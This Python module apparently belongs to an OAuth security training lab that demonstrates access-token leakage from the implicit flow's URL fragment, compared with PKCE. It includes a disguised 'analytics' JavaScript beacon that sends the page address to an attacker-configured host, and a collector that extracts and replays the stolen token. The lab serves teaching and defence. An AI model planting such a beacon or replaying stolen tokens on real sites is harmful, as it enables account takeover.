"""Lab "implicit-leak": an access token in the page's fragment read by a third-party
script, then injected elsewhere (RFC 9700 §4.3, §4.6); the code flow with PKCE
leaves the page's address empty."""

from __future__ import annotations

import secrets
from collections.abc import Mapping
from urllib.parse import parse_qs
from urllib.parse import urlencode
from urllib.parse import urlsplit

from flowlab.labs import client
from flowlab.labs import wire
from flowlab.labs.catalogue import Lab
from flowlab.labs.page import NOT_FOUND
from flowlab.labs.page import Answer
from flowlab.labs.page import Incoming
from flowlab.labs.page import redirect
from flowlab.labs.store import Run

PIXEL = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01"
         b"\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
ANALYTICS = """(function () {
  var beacon = new Image();
  beacon.src = "%s?u=" + encodeURIComponent(window.location.href);
}());
"""


def _implicit(run: Run, lab: Lab) -> bool:
    return lab.variants[run.variant].response_type == "token"


def start_login(run: Run, lab: Lab, config: Mapping) -> str:
    """The implicit client asks for a token in the fragment (RFC 6749 §4.2.1); the
    defended one is the framework's code flow with PKCE."""
    if not _implicit(run, lab):
        return client.start_login(run, lab, config)
    state = run.client["state"] = secrets.token_urlsafe(24)
    params = {**client.authorize_params(run, config, state), "response_type": "token"}
    return client.authorize_url(run, lab) + "?" + urlencode(params)


def finish_login(run: Run, lab: Lab, config: Mapping, sent: Incoming) -> Answer:
    """The redirect URI is the player page. An implicit response's fragment never
    reaches the server; a code is redeemed first, then the page has a clean URL."""
    if sent.args.get("code") or sent.args.get("error"):
        client.finish_login(run, lab, config, sent)
        return redirect(sent.base_url, 303)
    if _implicit(run, lab):
        run.record("callback", "victim", "front", sent.exchange())
    attacker = config["LABS_ATTACKER_URL"]
    linked = run.client.get("linked")
    context = dict(
        lab=lab, variant=lab.variants[run.variant],
        analytics=f"{attacker}/labs/{run.lab}/{run.id}/as/analytics.js",
        fragment_tokens=_implicit(run, lab), back=f"/labs/{run.lab}/{run.variant}",
        status=f"Signed in as {linked}." if linked else "Reading the sign-in...")
    policy = (f"default-src 'self'; script-src 'self' {attacker}; img-src 'self' "
              f"{attacker}; style-src 'self'; connect-src 'self'; object-src 'none'; "
              "base-uri 'none'; form-action 'self'; frame-ancestors 'none'")
    return Answer(template="labs/player.html", context=context,
                  headers={"Content-Security-Policy": policy,
                           "Cache-Control": "no-store"})


def serve(run: Run, lab: Lab, endpoint: str, config: Mapping,
          sent: Incoming) -> Answer:
    """The attacker's "analytics": a script that reports the page's address, and
    the collector, which tries any token it finds (RFC 6750 §2.1)."""
    if endpoint == "analytics.js":
        collect = f"{sent.host_url}labs/{run.lab}/{run.id}/as/collect"
        return Answer(body=ANALYTICS % collect, mimetype="application/javascript")
    if endpoint != "collect":
        return NOT_FOUND
    run.record("leak", "attacker", "front", sent.exchange())
    fragment = urlsplit(sent.args.get("u", "")).fragment
    token = parse_qs(fragment).get("access_token", [""])[0]
    if token and not run.entries("attacker-me"):
        run.attacker["token"] = token
        client.call_me(run, config, token, key="attacker-me", actor="attacker")
    return Answer(body=PIXEL, mimetype="image/gif",
                  headers={"Cache-Control": "no-store"})


def attacker_view(run: Run, lab: Lab) -> dict:
    """What the script reported, and Alice's token ready to inject."""
    leaks = run.entries("leak")
    if not leaks:
        return {}
    reported = parse_qs(urlsplit(leaks[-1].exchange.request.start_line.split(" ")[1])
                        .query).get("u", [""])[0]
    if not run.attacker.get("token"):
        return {"heading": "The analytics script reported an address",
                "text": "It carries no token:", "shown": reported}
    inject = (run.origin + client.callback_path(run.lab, run.variant)
              + "#" + urlencode({"access_token": run.attacker["token"],
                                 "token_type": "Bearer"}))
    return {"heading": "Alice's access token, reported by the analytics script",
            "text": f"The script sent this page address: {reported}",
            "link": inject, "link_text": "Open the player with Alice's token"}


def _reported(leak) -> dict[str, str]:
    """The parameters of the page address the script reported, query and fragment."""
    address = urlsplit(wire.query(leak).get("u", ""))
    return {**parse_qs(address.query), **parse_qs(address.fragment)}


def succeeded(run: Run) -> bool | None:
    """On the wire: did a leaked token read Alice's account (True)? False when the
    script reported the page after a completed sign-in and its address held no
    token and no code; None until then (a cancelled sign-in, or the page opened
    before signing in, leaks nothing to judge)."""
    if any(wire.status(me) == 200 for me in run.entries("attacker-me")):
        return True
    signed = [e for e in run.entries("token") if wire.status(e) == 200]
    clean = [leak for leak in (wire.since(run, signed[0]) if signed else ())
             if leak.key == "leak"
             and not {"access_token", "code"} & _reported(leak).keys()]
    return False if clean else None
